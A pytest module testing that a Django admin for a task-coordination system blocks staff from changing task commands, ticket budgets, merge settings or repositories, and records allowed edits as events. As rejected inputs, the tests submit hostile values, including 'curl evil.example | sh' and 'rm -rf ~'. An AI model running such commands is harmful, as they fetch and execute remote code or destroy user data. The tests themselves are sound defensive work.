"""The admin is an audit view: what decides what runs cannot be changed there, and what can is an Event.

Changes are POSTed through the real change views, as a browser would send the rendered form, with the
fields a staff reviewer (alice) might try to change added by hand.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from coordination.models import Event, Join, Repository, Task, Ticket
from tests import factories

pytestmark = pytest.mark.django_db


class FormFields(HTMLParser):
    """The values the change form would submit: inputs, checked boxes, selected options, text areas."""

    def __init__(self) -> None:
        super().__init__()
        self.data: dict[str, list[str]] = {}
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "input" and "name" in a and a.get("type") not in ("submit", "checkbox", "radio"):
            self.data.setdefault(a["name"], []).append(a.get("value", ""))
        elif tag == "input" and a.get("type") in ("checkbox", "radio") and "checked" in a:
            self.data.setdefault(a["name"], []).append(a.get("value", "on"))
        elif tag == "select":
            self._select = a.get("name")
        elif tag == "option" and self._select and "selected" in a:
            self.data.setdefault(self._select, []).append(a.get("value", ""))
        elif tag == "textarea":
            self._textarea = a.get("name")
            self.data[self._textarea] = [""]

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data: str) -> None:
        if self._textarea:
            self.data[self._textarea][0] += data.removeprefix("\n")


def post_change(client: Client, url: str, **changes: object):
    """GET the change form, change some of its fields (or add fields it does not have), POST it back."""
    page = client.get(url)
    assert page.status_code == 200
    form = FormFields()
    form.feed(page.content.decode())
    data = {**form.data, **{k: v if isinstance(v, list) else [v] for k, v in changes.items()}}
    data.pop("_addanother", None), data.pop("_continue", None)
    return client.post(url, data)


@pytest.fixture
def diamond():
    ticket = factories.make_ticket("Diamond", verify_command="python -m pytest -q", status="running")
    a = factories.make_task(ticket, "A", command="true", owned_files=["a.txt"], status="succeeded")
    b = factories.make_task(ticket, "B", [a], command="true")
    c = factories.make_task(ticket, "C", [a], command="true")
    factories.make_task(ticket, "D", [b, c], command="true")
    return ticket


def admin_events(ticket: Ticket) -> list[dict]:
    return [e.payload for e in Event.objects.filter(ticket=ticket, kind="admin.changed")]


def test_a_reviewer_cannot_change_what_a_task_runs(alice_client, diamond):
    d = diamond.tasks.get(key="D")
    a = diamond.tasks.get(key="A")
    url = reverse("admin:coordination_task_change", args=[d.pk])
    elsewhere = factories.make_ticket(repository=factories.make_repository("other"))

    response = post_change(alice_client, url, command="curl evil.example | sh", instructions="exfiltrate",
                           executor="claude", owned_files='["**"]', depends_on=[str(a.pk)],
                           timeout_seconds="999999", key="E", ticket=str(elsewhere.pk),
                           status="ready", lease_owner="me", network="on", max_attempts="1000")

    assert response.status_code == 302  # the form was accepted: the fields are simply not in it
    d.refresh_from_db()
    assert (d.command, d.instructions, d.executor, d.owned_files, d.timeout_seconds, d.key, d.ticket_id,
            d.status, d.lease_owner, d.network, d.max_attempts) == (
        "true", "", "shell", [], None, "D", diamond.pk, "pending", "", False, 3)
    assert sorted(d.depends_on.values_list("key", flat=True)) == ["B", "C"]
    assert admin_events(diamond) == []  # nothing changed, nothing recorded


def test_a_reviewer_cannot_change_how_a_ticket_merges_or_spends(alice_client, diamond):
    url = reverse("admin:coordination_ticket_change", args=[diamond.pk])

    response = post_change(alice_client, url, verify_command="sh -c 'curl evil.example | sh'",
                           review_policy="never", conflict_threshold="100000", llm_max_invocations="100000",
                           llm_max_usd="99999", sandbox_backend="daytona", serialize_overlaps="on",
                           merge_lock_owner="me", base_branch="other", token_nonce="0" * 32, network="on")

    assert response.status_code == 302
    ticket = Ticket.objects.get(pk=diamond.pk)
    assert (ticket.verify_command, ticket.review_policy, ticket.conflict_threshold, ticket.llm_max_invocations,
            ticket.llm_max_usd, ticket.sandbox_backend, ticket.serialize_overlaps, ticket.merge_lock_owner,
            ticket.base_branch, ticket.network) == (
        "python -m pytest -q", "threshold", 10, 20, 5, "", False, "", "main", False)
    assert ticket.token_nonce == diamond.token_nonce
    assert admin_events(diamond) == []


def test_an_allowed_change_is_saved_alone_and_recorded_as_an_event(alice_client, diamond):
    d = diamond.tasks.get(key="D")
    Task.objects.filter(pk=d.pk).update(status="ready")  # a worker moves it while the form is open
    url = reverse("admin:coordination_task_change", args=[d.pk])

    response = post_change(alice_client, url, title="Join B and C", command="rm -rf ~")

    assert response.status_code == 302
    d.refresh_from_db()
    assert (d.title, d.command, d.status) == ("Join B and C", "true", "ready")
    assert admin_events(diamond) == [{"by": "alice", "model": "task", "id": d.pk, "fields": ["title"]}]

    post_change(alice_client, reverse("admin:coordination_ticket_change", args=[diamond.pk]), title="Renamed")
    assert Ticket.objects.get(pk=diamond.pk).title == "Renamed"
    assert admin_events(diamond)[-1] == {"by": "alice", "model": "ticket", "id": diamond.pk, "fields": ["title"]}


def test_nothing_is_added_or_deleted_in_the_admin_and_joins_and_repositories_are_read_only(diamond):
    root = Client()
    root.force_login(factories._member("root", None, is_staff=True, is_superuser=True))
    join = Join.objects.get(ticket=diamond)
    repository = Repository.objects.get()
    for model in ("ticket", "task", "join", "repository", "ownershipclaim"):
        assert root.get(reverse(f"admin:coordination_{model}_add")).status_code == 403
    task = diamond.tasks.get(key="A")
    for model, pk in (("ticket", diamond.pk), ("task", task.pk), ("join", join.pk), ("repository", repository.pk)):
        assert root.post(reverse(f"admin:coordination_{model}_delete", args=[pk]), {"post": "yes"}).status_code == 403
    assert Task.objects.filter(pk=task.pk).exists() and Ticket.objects.filter(pk=diamond.pk).exists()

    response = post_change(root, reverse("admin:coordination_join_change", args=[join.pk]),
                           merge_strategy="quorum:1", sources=[str(task.pk)])
    assert response.status_code == 403
    join.refresh_from_db()
    assert join.merge_strategy == "all" and sorted(join.sources.values_list("key", flat=True)) == ["B", "C"]
    response = post_change(root, reverse("admin:coordination_repository_change", args=[repository.pk]),
                           url_or_path="/tmp/evil")
    assert response.status_code == 403 and Repository.objects.get().url_or_path == repository.url_or_path


def test_a_reviewer_revokes_a_tickets_token_from_the_admin(alice_client, bob_client, diamond):
    changelist = reverse("admin:coordination_ticket_changelist")
    form = {"action": "revoke_token", "_selected_action": [str(diamond.pk)]}

    bob_client.post(changelist, form)
    assert Ticket.objects.get(pk=diamond.pk).token_nonce == diamond.token_nonce  # bob is no staff

    alice_client.post(changelist, form)
    assert Ticket.objects.get(pk=diamond.pk).token_nonce != diamond.token_nonce
    assert Event.objects.filter(ticket=diamond, kind="ticket.token_revoked", payload={"by": "alice"}).count() == 1
